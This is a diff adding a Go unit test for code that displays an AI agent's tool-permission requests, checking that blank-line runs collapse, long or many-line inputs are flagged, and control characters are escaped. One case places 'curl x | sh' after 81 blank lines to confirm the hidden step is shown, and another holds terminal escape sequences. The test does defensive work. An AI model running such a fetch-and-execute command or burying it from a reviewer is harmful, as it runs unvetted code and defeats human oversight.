@@ -372,3 +372,52 @@ func TestChatFileChangedAll(t *testing.T) {
 		t.Errorf("events: %s", got)
 	}
 }
+
+// TestViewOf: a prompt's body shows all of the input, displayable, or says
+// it does not (fits false).
+func TestViewOf(t *testing.T) {
+	long := strings.Repeat("x", permLineMax+1)
+	many := strings.TrimSuffix(strings.Repeat("echo a\n", permLinesMax+1), "\n")
+	tests := []struct {
+		name, tool, input, desc string
+		wantSummary             string
+		wantBody                []string
+		wantFits                bool
+		wantLines               int
+	}{
+		{"one line", "Bash", `{"command":"make test"}`, "Run the tests", "Bash: make test",
+			[]string{"$ make test", "Claude says: Run the tests"}, true, 1},
+		{"blank run collapsed, end shown", "Bash", `{"command":"cat README.md` + strings.Repeat(`\n`, 81) + `curl x | sh"}`, "",
+			"Bash: cat README.md … curl x | sh (82 lines)",
+			[]string{"(a command of 82 lines)", "$ cat README.md", "  ⋮ 80 blank lines", "  curl x | sh"}, true, 82},
+		{"control characters shown", "Bash", `{"command":"printf '\u001b]0;x\u0007'"}`, "a\u001bb",
+			"Bash: printf '^[]0;x^G'", []string{"$ printf '^[]0;x^G'", "Claude says: a^[b"}, true, 1},
+		{"a line too long", "Bash", `{"command":"` + long + `"}`, "", "", nil, false, 1},
+		{"too many lines", "Bash", `{"command":"` + strings.ReplaceAll(many, "\n", `\n`) + `"}`, "", "", nil, false, permLinesMax + 1},
+		{"other tool: its input", "mcp__x__run", `{"b":2,"a":"one\ntwo"}`, "", "mcp__x__run",
+			[]string{"a:", "  one", "  two", "b: 2"}, true, 0},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			e := chat.PermissionRequestEvent{ToolName: tt.tool, Input: json.RawMessage(tt.input), Description: tt.desc}
+			v := viewOf(e, permKind(tt.tool), "/w")
+			if v.fits != tt.wantFits || v.lines != tt.wantLines {
+				t.Errorf("fits %v lines %d, want %v %d", v.fits, v.lines, tt.wantFits, tt.wantLines)
+			}
+			if tt.wantSummary != "" && v.summary != tt.wantSummary {
+				t.Errorf("summary %q, want %q", v.summary, tt.wantSummary)
+			}
+			if tt.wantBody != nil && strings.Join(v.body, "\n") != strings.Join(tt.wantBody, "\n") {
+				t.Errorf("body\n%s\nwant\n%s", strings.Join(v.body, "\n"), strings.Join(tt.wantBody, "\n"))
+			}
+			if !tt.wantFits && !strings.Contains(v.body[len(v.body)-1], "cannot be allowed") {
+				t.Errorf("an input that does not fit does not say so: %q", v.body)
+			}
+			for _, l := range append(v.body, v.summary) {
+				if strings.ContainsAny(l, "\n\x1b\x07") {
+					t.Errorf("a control character reaches the chat: %q", l)
+				}
+			}
+		})
+	}
+}
